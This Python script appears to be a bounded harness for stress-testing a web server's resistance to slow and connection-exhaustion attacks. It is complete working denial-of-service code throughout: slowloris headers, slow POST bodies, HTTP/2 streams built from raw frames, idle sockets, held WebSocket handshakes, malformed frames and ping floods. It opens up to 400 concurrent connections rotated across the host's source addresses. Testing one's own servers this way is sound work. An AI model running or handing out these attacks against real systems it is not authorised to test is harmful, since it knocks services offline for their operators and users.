"""Attacks on a web server, from a host of their own; the standard library is all that they need.

    attacker.py <address> <port> <attack> '{"option": value}'

Each is bounded in connections and in time and ends by itself. It prints one line of JSON: how many connections met
which end. The connections come from all addresses of this host in turn.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import ssl
import struct
import subprocess
import sys
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from itertools import cycle
from typing import Any

HOST = "probe.test"
ECHO = "/live/echo"
LONGEST = 60.0  # seconds that any attack may take
TOGETHER = 400  # connections that are being opened at the same time


def addresses() -> list[str]:
    """Return this host's own addresses, loopback aside."""
    text = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True).stdout
    return [word for word in text.split() if "." in word]


class Attack:
    """A number of connections to one server, and what became of them."""

    def __init__(self, address: str, port: int) -> None:
        self.target = (address, port)
        self.sources = cycle(addresses())
        self.ends: Counter[str] = Counter()
        self.opening = asyncio.Semaphore(TOGETHER)

    async def connect(self, **tls: Any) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open one connection from the next address, with asyncio's arguments for TLS if there are any."""
        async with self.opening:
            source = (next(self.sources), 0)
            opening = asyncio.open_connection(*self.target, local_addr=source, **tls)
            return await asyncio.wait_for(opening, 20)

    async def many(self, count: int, one: Callable[[], Awaitable[str]]) -> None:
        """Run `one` so many times side by side and count the ends that it returns."""

        async def counted() -> None:
            try:
                end = await asyncio.wait_for(one(), LONGEST)
            except (OSError, asyncio.IncompleteReadError) as error:
                end = type(error).__name__
            except TimeoutError:
                end = "held"
            self.ends[end] += 1

        await asyncio.gather(*(counted() for _ in range(count)))


async def status(reader: asyncio.StreamReader, seconds: float) -> str:
    """Return the status of an answer, `closed` where there is none, or `held` where nothing happens in time."""
    try:
        line = await asyncio.wait_for(reader.readline(), seconds)
    except TimeoutError:
        return "held"
    except OSError:
        return "closed"
    words = line.decode("latin-1").split()
    return words[1] if len(words) > 1 else "closed"


async def closed(reader: asyncio.StreamReader, seconds: float) -> str:
    """Return `closed` once the connection is, or `held` where it is not in time."""
    try:
        await asyncio.wait_for(reader.read(), seconds)
    except TimeoutError:
        return "held"
    except OSError:
        pass
    return "closed"


async def drip(
    attack: Attack,
    count: int,
    seconds: float,
    head: bytes,
    drop: bytes,
    end_of: Callable[[asyncio.StreamReader, float], Coroutine[Any, Any, str]] = status,
    **tls: Any,
) -> None:
    """Send the beginning of a request, then a few bytes each second; `end_of` tells what became of it."""

    async def one() -> str:
        reader, writer = await attack.connect(**tls)
        answer = asyncio.create_task(end_of(reader, seconds + 10))
        try:
            writer.write(head)
            for _ in range(int(seconds)):
                if answer.done():
                    break
                writer.write(drop)
                await writer.drain()
                await asyncio.sleep(1)  # the slowness is the attack
        except OSError:
            pass
        end = await answer
        writer.close()
        return end

    await attack.many(count, one)


async def slow_headers(attack: Attack, count: int, seconds: float) -> None:
    """Never finish the headers."""
    head = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()
    await drip(attack, count, seconds, head, b"X-A: b\r\n")


async def slow_body(attack: Attack, count: int, seconds: float, length: int = 100000) -> None:
    """Announce a body and send it byte by byte."""
    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {length}\r\n\r\n".encode()
    await drip(attack, count, seconds, head, b"x")


def frame2(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


async def slow_streams(
    attack: Attack, count: int, seconds: float, streams: int, host: str, silent: bool = False
) -> None:
    """Over HTTP/2, begin so many POSTs on each connection and send their bodies byte by byte, or not at all."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    name = host.encode()
    # POST, https and / stand in HPACK's table (RFC 7541, appendix A), the authority is told as it is
    headers = b"\x83\x87\x84\x01" + bytes([len(name)]) + name
    numbers = range(1, 2 * streams, 2)
    head = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame2(4, 0, 0) + frame2(4, 1, 0)
    head += b"".join(frame2(1, 4, number, headers) for number in numbers)
    drop = b"" if silent else b"".join(frame2(0, 0, number, b"x") for number in numbers)
    await drip(attack, count, seconds, head, drop, closed, ssl=context, server_hostname=host)


async def silent(attack: Attack, count: int, seconds: float) -> None:
    """Connect and say nothing."""

    async def one() -> str:
        reader, writer = await attack.connect()
        end = await status(reader, seconds)
        writer.close()
        return end

    await attack.many(count, one)


def handshake() -> bytes:
    """Return a complete WebSocket handshake."""
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {ECHO} HTTP/1.1\r\nHost: {HOST}\r\nOrigin: http://{HOST}\r\nConnection: Upgrade\r\n"
        f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n"
    ).encode()


async def handshakes(attack: Attack, count: int, seconds: float) -> None:
    """Open sockets and keep them."""

    async def one() -> str:
        reader, writer = await attack.connect()
        writer.write(handshake())
        end = await status(reader, 20)
        await asyncio.sleep(seconds)  # holding what one got is the attack
        writer.close()
        return end

    await attack.many(count, one)


async def frames(attack: Attack, count: int, seconds: float, data: str) -> None:
    """Open sockets and send bytes (base64) that are no good frames; tell the close codes."""

    async def one() -> str:
        reader, writer = await attack.connect()
        writer.write(handshake())
        await reader.readuntil(b"\r\n\r\n")
        try:
            writer.write(base64.b64decode(data))
            await writer.drain()
            async with asyncio.timeout(seconds):
                while True:
                    first, second = await reader.readexactly(2)
                    length = second & 127
                    if length == 126:
                        length = int.from_bytes(await reader.readexactly(2), "big")
                    payload = await reader.readexactly(length)
                    if first & 15 == 8:
                        return f"close {int.from_bytes(payload[:2], 'big')}"
        except TimeoutError:
            return "held"
        except (OSError, asyncio.IncompleteReadError):
            return "closed"
        finally:
            writer.close()

    await attack.many(count, one)


async def pings(attack: Attack, count: int, seconds: float, each: int) -> None:
    """Send many pings over each socket, and count whether all were answered."""
    ping = b"\x89\x80\0\0\0\0"

    async def one() -> str:
        reader, writer = await attack.connect()
        writer.write(handshake())
        await reader.readuntil(b"\r\n\r\n")
        try:
            async with asyncio.timeout(seconds):
                for _ in range(each // 100):
                    writer.write(ping * 100)
                    await writer.drain()
                    await reader.readexactly(200)
            return "answered"
        except TimeoutError:
            return "held"
        except (OSError, asyncio.IncompleteReadError):
            return "closed"
        finally:
            writer.close()

    await attack.many(count, one)


ATTACKS: dict[str, Callable[..., Awaitable[None]]] = {
    "slow_headers": slow_headers,
    "slow_body": slow_body,
    "slow_streams": slow_streams,
    "silent": silent,
    "handshakes": handshakes,
    "frames": frames,
    "pings": pings,
}


async def main() -> None:
    """Run the attack that the command line names."""
    attack = Attack(sys.argv[1], int(sys.argv[2]))
    await ATTACKS[sys.argv[3]](attack, **json.loads(sys.argv[4]))
    print(json.dumps(dict(attack.ends)))


if __name__ == "__main__":
    asyncio.run(main())
